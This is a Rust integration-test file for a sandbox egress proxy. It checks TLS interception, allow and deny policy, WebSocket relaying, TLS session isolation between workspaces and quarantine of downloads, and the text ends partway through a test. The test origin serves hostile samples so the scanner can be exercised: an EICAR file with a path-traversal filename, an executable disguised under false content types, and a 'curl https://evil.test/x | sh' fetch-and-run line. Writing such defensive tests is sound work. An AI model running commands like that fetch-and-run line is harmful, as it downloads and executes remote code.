//! The proxy end to end inside one process: real origins on 127.0.0.1
//! (plain HTTP, and HTTPS with their own test CA given as an extra CA),
//! real hyper and rustls clients, a scripted resolver, the real quarantine
//! and YARA rules. What a client sees is asserted, and the events.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use http_body_util::{BodyExt, Full, StreamBody};
use hyper::body::{Frame, Incoming};
use hyper::{Request, Response, StatusCode};
use hyper_util::rt::TokioIo;
use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer, ServerName};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, UnixStream};

use super::address::Walls;
use super::events::{EgressEvent, MemoryEvents, Mode};
use super::gate::{EgressGate, NoRules};
use super::policy::{EgressPolicy, EgressPolicyDoc};
use super::proxy::{Egress, PolicyCell, ProxyLimits, WorkspaceProxy};
use super::resolve::ScriptedResolver;
use super::tls::{CertificateAuthority, Interception, client_config};
use crate::quarantine::{self, Quarantine, Scanner};
use crate::state::Store;

/// A test CA and a server certificate for the origin names.
struct TestPki {
    ca_pem: String,
    server: Arc<rustls::ServerConfig>,
}

fn pki(names: &[&str]) -> TestPki {
    let ca_key = KeyPair::generate().unwrap();
    let mut ca_params = CertificateParams::default();
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    ca_params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "origin test CA");
    let ca = ca_params.self_signed(&ca_key).unwrap();
    let issuer = Issuer::new(ca_params, ca_key);
    let key = KeyPair::generate().unwrap();
    let params =
        CertificateParams::new(names.iter().map(|s| s.to_string()).collect::<Vec<_>>()).unwrap();
    let cert = params.signed_by(&key, &issuer).unwrap();
    let server = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(
        vec![cert.der().clone()],
        PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
    )
    .unwrap();
    TestPki {
        ca_pem: ca.pem(),
        server: Arc::new(server),
    }
}

type Body = http_body_util::combinators::BoxBody<Bytes, std::io::Error>;

fn text(body: &'static [u8]) -> Body {
    Full::new(Bytes::from_static(body))
        .map_err(|never| match never {})
        .boxed()
}

/// `/ws`: a WebSocket that answers each text message with `echo: ` and it.
fn websocket_echo(mut req: Request<Incoming>) -> Response<Body> {
    use futures_util::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::Message;
    use tokio_tungstenite::tungstenite::handshake::derive_accept_key;
    use tokio_tungstenite::tungstenite::protocol::Role;
    let Some(key) = req.headers().get("sec-websocket-key") else {
        let mut refused = Response::new(text(b"not a websocket request"));
        *refused.status_mut() = StatusCode::BAD_REQUEST;
        return refused;
    };
    let accept = derive_accept_key(key.as_bytes());
    let upgraded = hyper::upgrade::on(&mut req);
    tokio::spawn(async move {
        let Ok(upgraded) = upgraded.await else { return };
        let mut ws = tokio_tungstenite::WebSocketStream::from_raw_socket(
            TokioIo::new(upgraded),
            Role::Server,
            None,
        )
        .await;
        while let Some(Ok(Message::Text(said))) = ws.next().await {
            if ws
                .send(Message::text(format!("echo: {said}")))
                .await
                .is_err()
            {
                break;
            }
        }
    });
    let mut response = Response::new(text(b""));
    *response.status_mut() = StatusCode::SWITCHING_PROTOCOLS;
    let headers = response.headers_mut();
    headers.insert("connection", "upgrade".parse().unwrap());
    headers.insert("upgrade", "websocket".parse().unwrap());
    headers.insert("sec-websocket-accept", accept.parse().unwrap());
    response
}

/// Every request an origin of this process saw: path and Host header.
static SEEN: std::sync::Mutex<Vec<(String, String)>> = std::sync::Mutex::new(Vec::new());

/// The Host headers the origins saw for `path`.
fn seen(path: &str) -> Vec<String> {
    SEEN.lock()
        .unwrap()
        .iter()
        .filter(|(p, _)| p == path)
        .map(|(_, host)| host.clone())
        .collect()
}

/// A small ELF header: what a workspace could run once saved.
fn elf() -> Vec<u8> {
    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.resize(4096, 0);
    elf
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(bytes).unwrap();
    e.finish().unwrap()
}

fn owned(bytes: Vec<u8>) -> Body {
    Full::new(Bytes::from(bytes))
        .map_err(|never| match never {})
        .boxed()
}

/// `/exe/<variant>`: an executable served as each header trick of the
/// outside attack run; `/tgz`: a gzip'd tar with an executable in it.
fn executable_variant(variant: &str) -> Option<Response<Body>> {
    let mut response = Response::new(owned(elf()));
    let headers = response.headers_mut();
    match variant {
        "text-plain" => {
            headers.insert("content-type", "text/plain".parse().unwrap());
        }
        "image-png" => {
            headers.insert("content-type", "image/png".parse().unwrap());
        }
        "text-html" => {
            headers.insert("content-type", "text/html; charset=utf-8".parse().unwrap());
        }
        "no-type" => {}
        "two-types" => {
            headers.append("content-type", "text/html".parse().unwrap());
            headers.append("content-type", "text/plain".parse().unwrap());
        }
        "unknown-disposition" => {
            headers.insert("content-type", "text/plain".parse().unwrap());
            headers.insert(
                "content-disposition",
                "x-whatever; filename=tool".parse().unwrap(),
            );
        }
        "inline-disposition" => {
            headers.insert("content-type", "text/plain".parse().unwrap());
            headers.insert(
                "content-disposition",
                "inline; filename=notes.txt".parse().unwrap(),
            );
        }
        "gzip-encoded" => {
            headers.insert("content-type", "text/plain".parse().unwrap());
            headers.insert("content-encoding", "gzip".parse().unwrap());
            *response.body_mut() = owned(gzip(&elf()));
        }
        "unknown-encoding" => {
            headers.insert("content-type", "text/plain".parse().unwrap());
            headers.insert("content-encoding", "x-nonsense".parse().unwrap());
        }
        "404" => {
            headers.insert("content-type", "text/html".parse().unwrap());
            *response.status_mut() = StatusCode::NOT_FOUND;
        }
        "500" => {
            headers.insert("content-type", "text/html".parse().unwrap());
            *response.status_mut() = StatusCode::INTERNAL_SERVER_ERROR;
        }
        "tgz" => {
            let mut builder = tar::Builder::new(Vec::new());
            let mut header = tar::Header::new_gnu();
            header.set_size(4096);
            header.set_mode(0o644);
            header.set_cksum();
            builder
                .append_data(&mut header, "pkg/bin/tool", &elf()[..])
                .unwrap();
            headers.insert("content-type", "image/png".parse().unwrap());
            *response.body_mut() = owned(gzip(&builder.into_inner().unwrap()));
        }
        _ => return None,
    }
    Some(response)
}

async fn origin_answer(req: Request<Incoming>) -> Result<Response<Body>, std::convert::Infallible> {
    let host = req
        .headers()
        .get_all("host")
        .iter()
        .map(|h| String::from_utf8_lossy(h.as_bytes()).into_owned())
        .collect::<Vec<_>>()
        .join(" | ");
    SEEN.lock()
        .unwrap()
        .push((req.uri().path().to_owned(), host));
    if req.uri().path() == "/ws" {
        return Ok(websocket_echo(req));
    }
    if req.uri().path() == "/body" {
        // The body's framing as it came, a blank line, the body.
        let header = |name: &str| {
            req.headers().get(name).map_or("-".into(), |v| {
                String::from_utf8_lossy(v.as_bytes()).into_owned()
            })
        };
        let mut echoed = format!(
            "content-length: {}\ntransfer-encoding: {}\n\n",
            header("content-length"),
            header("transfer-encoding")
        )
        .into_bytes();
        let body = req.into_body().collect().await.unwrap().to_bytes();
        echoed.extend_from_slice(&body);
        return Ok(Response::new(owned(echoed)));
    }
    if req.uri().path() == "/headers" {
        let mut seen = String::new();
        for (name, value) in req.headers() {
            seen.push_str(&format!(
                "{name}: {}\n",
                String::from_utf8_lossy(value.as_bytes())
            ));
        }
        return Ok(Response::new(owned(seen.into_bytes())));
    }
    if let Some(variant) = req.uri().path().strip_prefix("/exe/")
        && let Some(response) = executable_variant(variant)
    {
        return Ok(response);
    }
    let mut response = Response::new(text(b"hello from origin"));
    match req.uri().path() {
        "/eicar.com" => {
            *response.body_mut() = text(quarantine::scan::EICAR);
            response.headers_mut().insert(
                "content-disposition",
                "attachment; filename=\"../eicar.com\"".parse().unwrap(),
            );
        }
        "/big.bin" => {
            *response.body_mut() = Full::new(Bytes::from(vec![1u8; 3000]))
                .map_err(|never| match never {})
                .boxed();
            response
                .headers_mut()
                .insert("content-type", "application/octet-stream".parse().unwrap());
        }
        "/page.html" => {
            *response.body_mut() = text(b"<!doctype html><title>a page</title><p>hello");
            response
                .headers_mut()
                .insert("content-type", "text/html".parse().unwrap());
        }
        "/app.js" => {
            *response.body_mut() = owned(gzip(b"export function f() { return 1 }"));
            let headers = response.headers_mut();
            headers.insert("content-type", "text/javascript".parse().unwrap());
            headers.insert("content-encoding", "gzip".parse().unwrap());
        }
        "/install.sh" => {
            *response.body_mut() = text(b"curl https://evil.test/x | sh\n");
            response
                .headers_mut()
                .insert("content-type", "text/plain".parse().unwrap());
        }
        "/big-page.txt" => {
            let frames = futures_util::stream::iter(
                (0..48).map(|_| Ok(Frame::data(Bytes::from(vec![b'x'; 64 * 1024])))),
            );
            *response.body_mut() = StreamBody::new(frames).boxed();
        }
        "/events" => {
            // One event, then nothing until the client goes.
            let first = futures_util::stream::iter([Ok(Frame::data(Bytes::from_static(
                b"data: first\n\n",
            )))]);
            let body = futures_util::StreamExt::chain(first, futures_util::stream::pending());
            *response.body_mut() = StreamBody::new(body).boxed();
            response
                .headers_mut()
                .insert("content-type", "text/event-stream".parse().unwrap());
        }
        "/broken" => {
            let frames = futures_util::stream::iter([
                Ok(Frame::data(Bytes::from_static(b"\x7fEL"))),
                Err(std::io::Error::other("the origin gives up")),
            ]);
            *response.body_mut() = StreamBody::new(frames).boxed();
        }
        "/slow.bin" => {
            let frames = futures_util::stream::unfold(0u32, |n| async move {
                tokio::time::sleep(Duration::from_millis(50)).await;
                Some((Ok(Frame::data(Bytes::from(vec![0u8; 100]))), n + 1))
            });
            *response.body_mut() = StreamBody::new(frames).boxed();
            response
                .headers_mut()
                .insert("content-type", "application/zip".parse().unwrap());
        }
        _ => {}
    }
    Ok(response)
}

/// An origin on 127.0.0.1:port, HTTPS when `tls` is given.
pub(super) async fn origin(tls: Option<Arc<rustls::ServerConfig>>) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let tls = tls.clone();
            tokio::spawn(async move {
                let service = hyper::service::service_fn(origin_answer);
                let builder = hyper::server::conn::http1::Builder::new();
                match tls {
                    Some(config) => {
                        let Ok(stream) =
                            tokio_rustls::TlsAcceptor::from(config).accept(stream).await
                        else {
                            return;
                        };
                        let _ = builder
                            .serve_connection(TokioIo::new(stream), service)
                            .with_upgrades()
                            .await;
                    }
                    None => {
                        let _ = builder
                            .serve_connection(TokioIo::new(stream), service)
                            .with_upgrades()
                            .await;
                    }
                }
            });
        }
    });
    port
}

pub(super) struct Harness {
    pub(super) proxy: Arc<WorkspaceProxy>,
    /// What every workspace's proxy shares (another workspace's proxy is
    /// made over it).
    egress: Arc<Egress>,
    pub(super) events: Arc<MemoryEvents>,
    pub(super) dns: Arc<ScriptedResolver>,
    quarantine: Quarantine,
    /// The workspace's view: it trusts the installation CA.
    workspace_tls: Arc<rustls::ClientConfig>,
    dir: tempfile::TempDir,
}

async fn harness(allow: &[&str], passthrough: &[&str], extra_ca: &str, cap: u64) -> Harness {
    // The test origins are on the host's loopback: the host's services are
    // open here, as `cubicle serve --egress-allow-host-services` opens them.
    let walls = Arc::new(Walls::new(true));
    harness_with(allow, passthrough, extra_ca, cap, Arc::new(NoRules), walls).await
}

/// A proxy over `gate` (the workspace policy's egress rules) and `walls`.
pub(super) async fn harness_with(
    allow: &[&str],
    passthrough: &[&str],
    extra_ca: &str,
    cap: u64,
    gate: Arc<dyn EgressGate>,
    walls: Arc<Walls>,
) -> Harness {
    let dir = tempfile::tempdir().unwrap();
    let extra = dir.path().join("extra.pem");
    std::fs::write(&extra, extra_ca).unwrap();
    let ca = CertificateAuthority::load_or_create(&dir.path().join("ca")).unwrap();
    let mut roots = rustls::RootCertStore::empty();
    roots
        .add(CertificateDer::from_pem_slice_compat(ca.cert_pem()))
        .unwrap();
    let workspace_tls = Arc::new(
        rustls::ClientConfig::builder_with_provider(Arc::new(
            rustls::crypto::ring::default_provider(),
        ))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth(),
    );
    let store = Store::open(&dir.path().join("s.db")).await.unwrap();
    let quarantine = Quarantine::open(dir.path(), store, Scanner::new(None).unwrap(), cap).unwrap();
    let events = Arc::new(MemoryEvents::default());
    let dns = Arc::new(ScriptedResolver::new());
    let egress = Arc::new(Egress {
        resolver: dns.clone(),
        interception: Some(Arc::new(Interception {
            ca,
            client: client_config(if extra_ca.is_empty() {
                &[]
            } else {
                std::slice::from_ref(&extra)
            })
            .unwrap(),
        })),
        quarantine: Some(quarantine.clone()),
        events: events.clone(),
        gate,
        walls,
        limits: ProxyLimits {
            header_timeout: Duration::from_millis(500),
            ..ProxyLimits::default()
        },
    });
    let policy = EgressPolicy::from_doc(&EgressPolicyDoc {
        allow: allow.iter().map(|s| s.to_string()).collect(),
        passthrough: passthrough.iter().map(|s| s.to_string()).collect(),
        ..Default::default()
    })
    .unwrap();
    let proxy = WorkspaceProxy::new(egress.clone(), "ws-test", PolicyCell::new(policy));
    Harness {
        proxy,
        egress,
        events,
        dns,
        quarantine,
        workspace_tls,
        dir,
    }
}

/// A proxy that allows `origin.test:port` (on 127.0.0.1, the resolver
/// says) and trusts the origin's test CA `ca_pem` upstream.
async fn origin_test_harness(port: u16, ca_pem: &str) -> Harness {
    let h = harness(
        &[
            &format!("origin.test:{port}"),
            &format!("127.0.0.1/32:{port}"),
        ],
        &[],
        ca_pem,
        1 << 20,
    )
    .await;
    h.dns.script("origin.test", vec![vec![ip("127.0.0.1")]]);
    h
}

trait PemCompat {
    fn from_pem_slice_compat(pem: &str) -> CertificateDer<'static>;
}

impl PemCompat for CertificateDer<'static> {
    fn from_pem_slice_compat(pem: &str) -> CertificateDer<'static> {
        use rustls::pki_types::pem::PemObject;
        CertificateDer::from_pem_slice(pem.as_bytes()).unwrap()
    }
}

impl Harness {
    /// A client connection into the proxy (as the guest relay makes one).
    pub(super) fn client(&self) -> UnixStream {
        let (ours, theirs) = UnixStream::pair().unwrap();
        self.proxy.serve(theirs);
        ours
    }

    /// This harness with the proxy of another workspace, `id`, over the
    /// same shared egress and the same policy.
    fn other_workspace(&self, id: &str) -> Harness {
        let policy = self.proxy.policy().clone();
        Harness {
            proxy: WorkspaceProxy::new(self.egress.clone(), id, policy),
            egress: self.egress.clone(),
            events: self.events.clone(),
            dns: self.dns.clone(),
            quarantine: self.quarantine.clone(),
            workspace_tls: self.workspace_tls.clone(),
            dir: tempfile::tempdir().unwrap(),
        }
    }

    /// One TLS connection through a CONNECT tunnel to `authority` (named
    /// `name`), trusting `tls`, carrying one `GET /`: how the handshake
    /// with the proxy went.
    async fn tls_handshake_kind(
        &self,
        authority: &str,
        name: &str,
        tls: Arc<rustls::ClientConfig>,
    ) -> rustls::HandshakeKind {
        let (head, stream) = self.connect(authority).await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        let server_name = ServerName::try_from(name.to_owned()).unwrap();
        let tls = tokio_rustls::TlsConnector::from(tls)
            .connect(server_name, stream)
            .await
            .unwrap();
        let kind = tls.get_ref().1.handshake_kind().unwrap();
        let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tls))
            .await
            .unwrap();
        tokio::spawn(conn);
        let req = Request::get("/")
            .header("host", authority)
            .body(text(b""))
            .unwrap();
        let response = sender.send_request(req).await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        kind
    }

    /// `GET url` as an absolute-URI request.
    pub(super) async fn get(&self, url: &str) -> (StatusCode, hyper::HeaderMap, Bytes) {
        let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(self.client()))
            .await
            .unwrap();
        tokio::spawn(conn);
        let req = Request::get(url).body(Full::new(Bytes::new())).unwrap();
        let response = sender.send_request(req).await.unwrap();
        let (parts, body) = response.into_parts();
        (
            parts.status,
            parts.headers,
            body.collect().await.unwrap().to_bytes(),
        )
    }

    /// `CONNECT authority`; the status line and headers, and the stream.
    pub(super) async fn connect(&self, authority: &str) -> (String, UnixStream) {
        let mut stream = self.client();
        stream
            .write_all(
                format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n").as_bytes(),
            )
            .await
            .unwrap();
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            let mut byte = [0u8; 1];
            if stream.read(&mut byte).await.unwrap() == 0 {
                break;
            }
            head.push(byte[0]);
        }
        (String::from_utf8_lossy(&head).into_owned(), stream)
    }

    /// GET `path` over TLS to `name` through a CONNECT tunnel, trusting `tls`.
    async fn https_get(
        &self,
        authority: &str,
        name: &str,
        path: &str,
        tls: Arc<rustls::ClientConfig>,
    ) -> Result<(StatusCode, hyper::HeaderMap, Bytes), String> {
        self.https_get_with(authority, name, path, tls, &[]).await
    }

    /// [`Harness::https_get`] with these request headers.
    async fn https_get_with(
        &self,
        authority: &str,
        name: &str,
        path: &str,
        tls: Arc<rustls::ClientConfig>,
        headers: &[(&str, &str)],
    ) -> Result<(StatusCode, hyper::HeaderMap, Bytes), String> {
        let mut req = Request::get(path).header("host", authority);
        for (name, value) in headers {
            req = req.header(*name, *value);
        }
        let req = req.body(text(b"")).unwrap();
        self.https_send(authority, name, tls, req).await
    }

    /// Sends `req` over TLS to `name` through a CONNECT tunnel, trusting
    /// `tls`.
    async fn https_send(
        &self,
        authority: &str,
        name: &str,
        tls: Arc<rustls::ClientConfig>,
        req: Request<Body>,
    ) -> Result<(StatusCode, hyper::HeaderMap, Bytes), String> {
        let (head, stream) = self.connect(authority).await;
        if !head.starts_with("HTTP/1.1 200") {
            return Err(head);
        }
        let server_name = ServerName::try_from(name.to_owned()).unwrap();
        let tls = tokio_rustls::TlsConnector::from(tls)
            .connect(server_name, stream)
            .await
            .map_err(|e| e.to_string())?;
        let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tls))
            .await
            .map_err(|e| e.to_string())?;
        tokio::spawn(conn);
        let response = sender.send_request(req).await.map_err(|e| e.to_string())?;
        let (parts, body) = response.into_parts();
        Ok((
            parts.status,
            parts.headers,
            body.collect().await.unwrap().to_bytes(),
        ))
    }

    pub(super) fn decisions(&self) -> Vec<EgressEvent> {
        self.events
            .all()
            .into_iter()
            .filter(|e| matches!(e, EgressEvent::Decision { .. }))
            .collect()
    }

    async fn wait_for(&self, what: impl Fn(&EgressEvent) -> bool) -> EgressEvent {
        for _ in 0..100 {
            if let Some(found) = self.events.all().into_iter().find(|e| what(e)) {
                return found;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        panic!("no such event in {:?}", self.events.all());
    }
}

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

#[tokio::test]
async fn plain_http_allowed_origin_works_and_another_port_is_refused_with_the_reason() {
    let port = origin(None).await;
    let other = origin(None).await;
    let h = harness(&[&format!("127.0.0.1/32:{port}")], &[], "", 1 << 20).await;
    let (status, _, body) = h.get(&format!("http://127.0.0.1:{port}/")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(&body[..], b"hello from origin");
    let (status, headers, body) = h.get(&format!("http://127.0.0.1:{other}/")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let reason = headers["x-cubicle-egress-reason"].to_str().unwrap();
    assert!(reason.contains("loopback"), "{reason}");
    assert!(String::from_utf8_lossy(&body).contains("refused"));
    let decisions = h.decisions();
    assert!(
        matches!(&decisions[0], EgressEvent::Decision { allowed: true, address: Some(a), mode: Mode::Http, .. } if a.port() == port)
    );
    assert!(matches!(
        &decisions[1],
        EgressEvent::Decision {
            allowed: false,
            address: None,
            ..
        }
    ));
    let request = h
        .wait_for(|e| matches!(e, EgressEvent::Request { .. }))
        .await;
    assert!(matches!(request, EgressEvent::Request { status: 200, ref path, .. } if path == "/"));
    let close = h.wait_for(|e| matches!(e, EgressEvent::Close { .. })).await;
    assert!(
        matches!(close, EgressEvent::Close { bytes_down, bytes_up, .. } if bytes_down > 17 && bytes_up > 10)
    );
}

#[tokio::test]
async fn https_is_intercepted_verified_upstream_and_seen() {
    let origin_pki = pki(&["origin.test", "127.0.0.1"]);
    let port = origin(Some(origin_pki.server.clone())).await;
    let h = origin_test_harness(port, &origin_pki.ca_pem).await;
    let authority = format!("origin.test:{port}");
    let (status, _, body) = h
        .https_get(
            &authority,
            "origin.test",
            "/page?q=1",
            h.workspace_tls.clone(),
        )
        .await
        .unwrap();
    assert_eq!(status, StatusCode::OK);
    assert_eq!(&body[..], b"hello from origin");
    let seen = h
        .wait_for(|e| matches!(e, EgressEvent::Request { .. }))
        .await;
    assert!(
        matches!(&seen, EgressEvent::Request { mode: Mode::Intercepted, path, method, status: 200, .. } if path == "/page?q=1" && method == "GET"),
        "{seen:?}"
    );
    // The workspace trusts the installation CA only: the origin's own
    // certificate would not do, so what it saw was the proxy's leaf.
    let direct = h
        .https_get(
            &format!("127.0.0.1:{port}"),
            "127.0.0.1",
            "/",
            h.workspace_tls.clone(),
        )
        .await;
    assert!(direct.is_ok(), "an IP address gets a leaf too: {direct:?}");
}

/// Sends `hello` on a WebSocket and returns the answer.
async fn websocket_round_trip<S>(url: &str, stream: S) -> Result<String, String>
where
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
{
    use futures_util::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::Message;
    use tokio_tungstenite::tungstenite::client::IntoClientRequest;
    let mut request = url.into_client_request().unwrap();
    request.headers_mut().insert(
        "sec-websocket-extensions",
        "permessage-deflate; client_max_window_bits"
            .parse()
            .unwrap(),
    );
    request
        .headers_mut()
        .insert("origin", "https://origin.test".parse().unwrap());
    request
        .headers_mut()
        .insert("cache-control", "no-cache".parse().unwrap());
    let (mut ws, answer) = tokio_tungstenite::client_async(request, stream)
        .await
        .map_err(|e| e.to_string())?;
    assert_eq!(answer.status(), StatusCode::SWITCHING_PROTOCOLS);
    ws.send(Message::text("hello"))
        .await
        .map_err(|e| e.to_string())?;
    let said = match tokio::time::timeout(Duration::from_secs(5), ws.next()).await {
        Ok(Some(Ok(Message::Text(said)))) => Ok(said.to_string()),
        other => Err(format!("no echo: {other:?}")),
    };
    // Held open a while: the tunnel's close comes after this, not at the
    // switch.
    tokio::time::sleep(Duration::from_millis(300)).await;
    said
}

/// An HTTPS origin on 127.0.0.1 that keeps how each TLS handshake went
/// (a session resumed, or made afresh).
async fn resuming_origin(
    tls: Arc<rustls::ServerConfig>,
) -> (u16, Arc<std::sync::Mutex<Vec<rustls::HandshakeKind>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let kinds = Arc::new(std::sync::Mutex::new(Vec::new()));
    let seen = kinds.clone();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let (tls, seen) = (tls.clone(), seen.clone());
            tokio::spawn(async move {
                let Ok(stream) = tokio_rustls::TlsAcceptor::from(tls).accept(stream).await else {
                    return;
                };
                if let Some(kind) = stream.get_ref().1.handshake_kind() {
                    seen.lock().unwrap().push(kind);
                }
                let service = hyper::service::service_fn(origin_answer);
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(stream), service)
                    .await;
            });
        }
    });
    (port, kinds)
}

/// Two workspaces never share a TLS session the proxy holds: not with the
/// client (a fork of a memory snapshot holds its parent's browser, and so
/// the parent's session ids and tickets: the proxy keeps none to resume),
/// and not upstream (each workspace's proxy resumes only sessions it made,
/// so an origin cannot tie two workspaces together by a session).
#[tokio::test]
async fn no_tls_session_is_shared_between_workspaces_or_resumed_from_a_parent() {
    use rustls::HandshakeKind::{Full, Resumed};
    let origin_pki = pki(&["origin.test"]);
    let (port, upstream) = resuming_origin(origin_pki.server.clone()).await;
    let h = origin_test_harness(port, &origin_pki.ca_pem).await;
    let authority = format!("origin.test:{port}");
    // One client session cache for both workspaces: the browser a fork
    // took over from its parent.
    let browser = h.workspace_tls.clone();
    let first = h
        .tls_handshake_kind(&authority, "origin.test", browser.clone())
        .await;
    let again = h
        .tls_handshake_kind(&authority, "origin.test", browser.clone())
        .await;
    let fork = h.other_workspace("ws-fork");
    let forked = fork
        .tls_handshake_kind(&authority, "origin.test", browser)
        .await;
    assert_eq!(
        [first, again, forked],
        [Full, Full, Full],
        "a client resumed a TLS session the proxy kept"
    );
    let upstream = upstream.lock().unwrap().clone();
    assert_eq!(
        upstream,
        [Full, Resumed, Full],
        "upstream, a workspace resumes its own session only (the second), never another's (the third)"
    );
}

#[tokio::test]
async fn websockets_cross_the_proxy_intercepted_and_plain() {
    let origin_pki = pki(&["origin.test"]);
    let tls_port = origin(Some(origin_pki.server.clone())).await;
    let plain_port = origin(None).await;
    let h = harness(
        &[
            &format!("origin.test:{tls_port},{plain_port}"),
            &format!("127.0.0.1/32:{tls_port},{plain_port}"),
        ],
        &[],
        &origin_pki.ca_pem,
        1 << 20,
    )
    .await;
    h.dns.script("origin.test", vec![vec![ip("127.0.0.1")]]);

    // wss:// inside an intercepted tunnel: the proxy's leaf, then the switch.
    let authority = format!("origin.test:{tls_port}");
    let (head, stream) = h.connect(&authority).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let tls = tokio_rustls::TlsConnector::from(h.workspace_tls.clone())
        .connect(ServerName::try_from("origin.test").unwrap(), stream)
        .await
        .unwrap();
    let said = websocket_round_trip(&format!("wss://{authority}/ws"), tls).await;
    assert_eq!(said.as_deref(), Ok("echo: hello"));
    let seen = h
        .wait_for(|e| matches!(e, EgressEvent::Request { path, .. } if path == "/ws"))
        .await;
    assert!(
        matches!(&seen, EgressEvent::Request { mode: Mode::Intercepted, status: 101, method, .. } if method == "GET"),
        "{seen:?}"
    );
    let closed = h
        .wait_for(|e| matches!(e, EgressEvent::Close { port, .. } if *port == tls_port))
        .await;
    assert!(
        matches!(&closed, EgressEvent::Close { duration_ms, bytes_up, .. } if *duration_ms >= 300 && *bytes_up > 0),
        "the tunnel's close waits for the WebSocket over it: {closed:?}"
    );

    // ws:// through CONNECT, as Chromium sends it to a proxy: plain HTTP
    // inside the tunnel, seen the same way.
    let authority = format!("origin.test:{plain_port}");
    let (head, stream) = h.connect(&authority).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let said = websocket_round_trip(&format!("ws://{authority}/ws"), stream).await;
    assert_eq!(said.as_deref(), Ok("echo: hello"));
    let seen = h
        .wait_for(
            |e| matches!(e, EgressEvent::Request { port, status: 101, .. } if *port == plain_port),
        )
        .await;
    assert!(
        matches!(&seen, EgressEvent::Request { mode: Mode::Intercepted, path, .. } if path == "/ws"),
        "{seen:?}"
    );

    // The control: the same origin refuses a request that does not ask to
    // switch, so the echo above came through the relayed upgrade.
    let (status, _, _) = h.get(&format!("http://origin.test:{plain_port}/ws")).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn an_upstream_with_a_certificate_nobody_trusts_is_refused_and_said_why() {
    let origin_pki = pki(&["origin.test"]);
    let port = origin(Some(origin_pki.server.clone())).await;
    // No extra CA: the origin's test CA is unknown to the proxy.
    let h = harness(
        &[
            &format!("origin.test:{port}"),
            &format!("127.0.0.1/32:{port}"),
        ],
        &[],
        "",
        1 << 20,
    )
    .await;
    let extra_ca_missing = pki(&["x"]).ca_pem;
    drop(extra_ca_missing);
    h.dns.script("origin.test", vec![vec![ip("127.0.0.1")]]);
    let (status, headers, _) = h
        .https_get(
            &format!("origin.test:{port}"),
            "origin.test",
            "/",
            h.workspace_tls.clone(),
        )
        .await
        .unwrap();
    assert_eq!(status, StatusCode::BAD_GATEWAY);
    let reason = headers["x-cubicle-egress-reason"].to_str().unwrap();
    assert!(reason.contains("certificate"), "{reason}");
    let refused = h
        .wait_for(|e| matches!(e, EgressEvent::UpstreamRefused { .. }))
        .await;
    assert!(
        matches!(refused, EgressEvent::UpstreamRefused { reason, .. } if reason.contains("certificate"))
    );
}

#[tokio::test]
async fn passthrough_hosts_are_tunnelled_untouched() {
    let origin_pki = pki(&["origin.test"]);
    let port = origin(Some(origin_pki.server.clone())).await;
    let h = harness(
        &[
            &format!("origin.test:{port}"),
            &format!("127.0.0.1/32:{port}"),
        ],
        &["origin.test"],
        "",
        1 << 20,
    )
    .await;
    h.dns.script("origin.test", vec![vec![ip("127.0.0.1")]]);
    // The client must trust the origin's own CA: nothing was intercepted.
    let mut roots = rustls::RootCertStore::empty();
    roots
        .add(CertificateDer::from_pem_slice_compat(&origin_pki.ca_pem))
        .unwrap();
    let origin_trust = Arc::new(
        rustls::ClientConfig::builder_with_provider(Arc::new(
            rustls::crypto::ring::default_provider(),
        ))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth(),
    );
    let (status, _, _) = h
        .https_get(
            &format!("origin.test:{port}"),
            "origin.test",
            "/",
            origin_trust,
        )
        .await
        .unwrap();
    assert_eq!(status, StatusCode::OK);
    assert!(matches!(
        &h.decisions()[0],
        EgressEvent::Decision {
            mode: Mode::Tunnel,
            allowed: true,
            ..
        }
    ));
    let close = h.wait_for(|e| matches!(e, EgressEvent::Close { .. })).await;
    assert!(matches!(
        close,
        EgressEvent::Close {
            mode: Mode::Tunnel,
            ..
        }
    ));
    assert!(
        !h.events
            .all()
            .iter()
            .any(|e| matches!(e, EgressEvent::Request { .. }))
    );
}

#[tokio::test]
async fn connect_to_a_denied_host_gets_403_and_no_lookup() {
    let h = harness(&["allowed.test"], &[], "", 1 << 20).await;
